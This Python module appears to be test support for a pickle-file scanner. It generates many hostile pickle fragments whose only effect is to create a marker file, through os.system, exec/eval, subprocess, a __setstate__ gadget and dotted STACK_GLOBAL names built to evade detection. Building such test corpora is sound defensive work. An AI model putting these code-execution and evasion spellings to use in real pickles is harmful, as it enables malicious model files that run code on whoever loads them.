"""Pickle fragments whose only effect is to create ``tensorplay_pwned_marker`` in
the current directory, spelled many ways. A fragment runs its effect and leaves
one value on the stack, so it can stand wherever a pickle expects a value."""
from __future__ import annotations

import random
from collections.abc import Callable
from dataclasses import dataclass

from . import pickler as P

MARKER = "tensorplay_pwned_marker"
COMMAND = f"touch {MARKER}"
SOURCE = f"open({MARKER!r}, 'w').close()"


def text_op(protocol: int | None) -> str:
    """The string opcode a pickler of this protocol writes."""
    if protocol is None or protocol < 1:
        return "UNICODE"
    return "BINUNICODE" if protocol < 4 else "SHORT_BINUNICODE"


@dataclass(frozen=True)
class Spelling:
    name: str
    build: Callable[[int | None, str], bytes]  # (protocol, string opcode) -> fragment
    min_protocol: int = 0
    max_protocol: int = 5
    fires: bool = True  # False: looks hostile, cannot run (nothing to call it with)

    def fits(self, protocol: int | None) -> bool:
        return self.min_protocol <= (protocol or 0) <= self.max_protocol


def _call(module: str, name: str, args: list[bytes]) -> bytes:
    return P.global_op(module, name) + P.MARK + b"".join(args) + P.TUPLE + P.REDUCE


def _s(text: str, op: str) -> bytes:
    return P.string(text, op)


def _stack_global(module: str, name: str, op: str) -> bytes:
    return _s(module, op) + _s(name, op) + P.STACK_GLOBAL


def _by_getattr(obj: bytes, attribute: str, op: str) -> bytes:
    """obj.attribute, through builtins.getattr."""
    return P.global_op("builtins", "getattr") + P.MARK + obj + _s(attribute, op) + P.TUPLE + P.REDUCE


def _path(op: str) -> bytes:
    return _call("pathlib", "Path", [_s(MARKER, op)])


SPELLINGS: list[Spelling] = [
    Spelling("os.system", lambda p, op: _call("os", "system", [_s(COMMAND, op)])),
    Spelling("posix.system", lambda p, op: _call("posix", "system", [_s(COMMAND, op)])),
    Spelling("nt-style os.system via INST", lambda p, op: P.MARK + _s(COMMAND, op) + b"ios\nsystem\n"),
    Spelling("os.system via OBJ", lambda p, op: P.MARK + P.global_op("os", "system") + _s(COMMAND, op) + P.OBJ),
    Spelling("builtins.exec", lambda p, op: _call("builtins", "exec", [_s(SOURCE, op)])),
    Spelling("builtins.eval", lambda p, op: _call("builtins", "eval", [_s(SOURCE, op)])),
    # Unpicklers map Python 2 module names only below protocol 3.
    Spelling("__builtin__.eval (Python 2 name)", lambda p, op: _call("__builtin__", "eval", [_s(SOURCE, op)]),
             max_protocol=2),
    Spelling("builtins.open", lambda p, op: _call("builtins", "open", [_s(MARKER, op), _s("w", op)])),
    Spelling("io.open", lambda p, op: _call("io", "open", [_s(MARKER, op), _s("w", op)])),
    Spelling("os.mkdir", lambda p, op: _call("os", "mkdir", [_s(MARKER, op)])),
    Spelling("os.open O_CREAT", lambda p, op: _call("os", "open", [_s(MARKER, op), P.integer(0o101, p is None)])),
    Spelling("os.popen", lambda p, op: _call("os", "popen", [_s(COMMAND, op)])),
    Spelling("subprocess.run", lambda p, op: _call("subprocess", "run", [P.list_of([_s("touch", op),
                                                                                    _s(MARKER, op)])])),
    Spelling("subprocess.call", lambda p, op: _call("subprocess", "call", [P.list_of([_s("touch", op),
                                                                                      _s(MARKER, op)])])),
    Spelling("subprocess.Popen", lambda p, op: _call("subprocess", "Popen", [P.list_of([_s("touch", op),
                                                                                        _s(MARKER, op)])])),
    Spelling("subprocess.getoutput", lambda p, op: _call("subprocess", "getoutput", [_s(COMMAND, op)])),
    Spelling("shutil.copyfile", lambda p, op: _call("shutil", "copyfile", [_s("/dev/null", op), _s(MARKER, op)])),
    Spelling("runpy._run_code", lambda p, op: _call("runpy", "_run_code", [_s(SOURCE, op), P.EMPTY_DICT])),
    Spelling("code.InteractiveInterpreter", lambda p, op: (
        _by_getattr(_call("code", "InteractiveInterpreter", []), "runsource", op)
        + P.MARK + _s(SOURCE, op) + P.TUPLE + P.REDUCE)),
    Spelling("timeit.timeit", lambda p, op: _call("timeit", "timeit", [
        _s(SOURCE, op), _s("pass", op), P.global_op("time", "perf_counter"), P.integer(1, p is None)])),
    Spelling("pathlib.Path.touch through getattr", lambda p, op: (
        _by_getattr(_path(op), "touch", op) + P.EMPTY_TUPLE + P.REDUCE)),
    Spelling("operator.methodcaller('touch')", lambda p, op: (
        _call("operator", "methodcaller", [_s("touch", op)]) + P.MARK + _path(op) + P.TUPLE + P.REDUCE)),
    Spelling("functools.partial(os.system)", lambda p, op: (
        _call("functools", "partial", [P.global_op("os", "system"), _s(COMMAND, op)]) + P.EMPTY_TUPLE + P.REDUCE)),
    Spelling("BUILD __setstate__ gadget", lambda p, op: (
        _call("types", "SimpleNamespace", []) + P.EMPTY_DICT + _s("__setstate__", op)
        + P.global_op("os", "system") + P.SETITEM + P.BUILD + _s(COMMAND, op) + P.BUILD)),
    Spelling("NEWOBJ pathlib.PosixPath then touch", lambda p, op: (
        _by_getattr(P.global_op("pathlib", "PosixPath") + P.MARK + _s(MARKER, op) + P.TUPLE + P.NEWOBJ,
                    "touch", op) + P.EMPTY_TUPLE + P.REDUCE), min_protocol=2),
    Spelling("NEWOBJ_EX pathlib.PosixPath then touch", lambda p, op: (
        _by_getattr(P.global_op("pathlib", "PosixPath") + P.MARK + _s(MARKER, op) + P.TUPLE + P.EMPTY_DICT
                    + P.NEWOBJ_EX, "touch", op) + P.EMPTY_TUPLE + P.REDUCE), min_protocol=4),
    Spelling("STACK_GLOBAL os.system", lambda p, op: (
        _stack_global("os", "system", op) + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE), min_protocol=4),
    Spelling("STACK_GLOBAL names from the memo", lambda p, op: (
        _s("system", op) + P.MEMOIZE + P.POP + _s("os", op) + P.MEMOIZE + P.POP
        + P.get(1) + P.get(0) + P.STACK_GLOBAL + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE), min_protocol=4),
    Spelling("STACK_GLOBAL posixpath.os.system (dotted)", lambda p, op: (
        _stack_global("posixpath", "os.system", op) + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE),
        min_protocol=4),
    Spelling("STACK_GLOBAL builtins getattr.__self__.exec (dotted)", lambda p, op: (
        _stack_global("builtins", "getattr.__self__.exec", op) + P.MARK + _s(SOURCE, op) + P.TUPLE + P.REDUCE),
        min_protocol=4),
    Spelling("STACK_GLOBAL pathlib Path.touch (dotted)", lambda p, op: (
        _stack_global("pathlib", "Path.touch", op) + P.MARK + _path(op) + P.TUPLE + P.REDUCE), min_protocol=4),
    Spelling("GLOBAL torch os.system (dotted)", lambda p, op: (
        P.global_op("torch", "os.system") + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE), min_protocol=4),
    # Looks hostile, runs nothing: no extension code is registered in copyreg.
    Spelling("EXT1 code 7 (unregistered)", lambda p, op: b"\x82\x07" + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE,
             min_protocol=2, fires=False),
    # Protocol 0-3: a dotted name is looked up as one attribute, which does not exist.
    Spelling("GLOBAL posixpath os.system under protocol 2", lambda p, op: (
        P.global_op("posixpath", "os.system") + P.MARK + _s(COMMAND, op) + P.TUPLE + P.REDUCE), max_protocol=3,
        fires=False),
]

FIRING = [s for s in SPELLINGS if s.fires]
PROTOCOLS: list[int | None] = [None, 0, 1, 2, 3, 4, 5]


def fragment(spelling: Spelling, protocol: int | None, op: str | None = None) -> bytes:
    return spelling.build(protocol, op or text_op(protocol))


def hostile_pickle(spelling: Spelling | None = None, protocol: int | None = 2, framed: bool = False,
                   op: str | None = None) -> bytes:
    """A whole pickle whose value is the payload's result."""
    spelling = spelling or SPELLINGS[0]
    framed = framed and (protocol or 0) >= 4
    return P.program(fragment(spelling, protocol, op), protocol, framed)


def benign_pickle(protocol: int | None = 2, framed: bool = False) -> bytes:
    framed = framed and (protocol or 0) >= 4
    return P.program(P.benign_value(protocol or 0), protocol, framed)


def random_hostile(rng: random.Random) -> tuple[bytes, str]:
    """A firing pickle in a random protocol and spelling, with its description."""
    spelling = rng.choice(FIRING)
    protocol = rng.choice([p for p in PROTOCOLS if spelling.fits(p)])
    op = text_op(protocol)
    if (protocol or 0) >= 1 and rng.random() < 0.3:
        op = rng.choice(["BINUNICODE", "UNICODE"] + (["SHORT_BINUNICODE", "BINUNICODE8"] if (protocol or 0) >= 4
                                                     else []))
    framed = (protocol or 0) >= 4 and rng.random() < 0.5
    return hostile_pickle(spelling, protocol, framed, op), f"{spelling.name} p{protocol}{' framed' if framed else ''}"
